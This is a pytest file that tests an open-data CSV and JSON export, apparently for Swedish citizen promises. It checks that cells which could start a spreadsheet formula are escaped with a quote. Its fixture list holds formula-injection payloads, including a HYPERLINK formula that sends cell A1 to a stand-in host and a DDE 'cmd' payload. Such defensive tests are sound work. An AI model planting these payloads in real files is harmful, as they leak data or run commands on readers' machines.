"""Open-data CSV cells never start a spreadsheet formula; the JSON keeps the exact text."""

import csv
import datetime
import io
import json

import pytest

from promises.models import FollowUp, FollowUpFigure, Partner, Promise, PromisePeriod

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# What an editor might type, or an attacker might plant, at the start of a text.
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1;"Klicka")',
    "+46 31 123 45 67",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(client, url):
    response = client.get(url)
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))


def every_cell(rows):
    return [cell for row in rows for cell in [*row.keys(), *row.values()]]


@pytest.fixture
def hostile_period():
    period = PromisePeriod.objects.get(slug="2023-2024")
    police = Partner.objects.get(slug="lokalpolisomrade-sodra-fyrbodal")
    promises = []
    for order, text in enumerate(HOSTILE, start=500):
        promise = Promise.objects.create(period=period, text=text, order=order)
        promise.givers.set([police])
        follow_up = FollowUp.objects.create(
            promise=promise,
            status="done",
            reported_on=datetime.date(2024, 6, 1),
            text=text,
            is_published=True,
        )
        FollowUpFigure.objects.create(follow_up=follow_up, label=text, value="-5")
        promises.append(promise)
    return period


def test_promise_cells_that_would_be_formulas_open_as_text(client, hostile_period):
    rows = read_csv(client, "/oppna-data/medborgarloften/2023-2024.csv")
    texts = [row["text"] for row in rows]
    for hostile in HOSTILE:
        assert "'" + hostile in texts
    for cell in every_cell(rows):
        assert not cell.startswith(TRIGGERS), repr(cell)


def test_follow_up_cells_that_would_be_formulas_open_as_text(client, hostile_period):
    rows = read_csv(client, "/oppna-data/medborgarloften/2023-2024/uppfoljningar.csv")
    texts = [row["text"] for row in rows]
    figures = [row["siffror"] for row in rows]
    for hostile in HOSTILE:
        assert "'" + hostile in texts
        assert f"'{hostile}: -5" in figures
    for cell in every_cell(rows):
        assert not cell.startswith(TRIGGERS), repr(cell)


def test_every_cell_is_quoted_so_a_separator_inside_never_starts_a_new_cell(client, hostile_period):
    promise = Promise.objects.filter(period=hostile_period).first()
    promise.text = "Trygghet; =1+1, @SUM(1)"
    promise.save()
    raw = client.get("/oppna-data/medborgarloften/2023-2024.csv").content.decode("utf-8-sig")
    assert raw.split("\r\n", 1)[0].startswith('"period";"lofte_id";')
    assert '"Trygghet; =1+1, @SUM(1)"' in raw
    rows = csv.DictReader(io.StringIO(raw, newline=""), delimiter=";")
    assert "Trygghet; =1+1, @SUM(1)" in [row["text"] for row in rows]


def test_the_json_keeps_the_exact_text(client, hostile_period):
    document = json.loads(client.get("/oppna-data/medborgarloften/2023-2024.json").content)
    texts = [promise["text"] for promise in document["loften"]]
    for hostile in HOSTILE:
        assert hostile in texts
        assert "'" + hostile not in texts
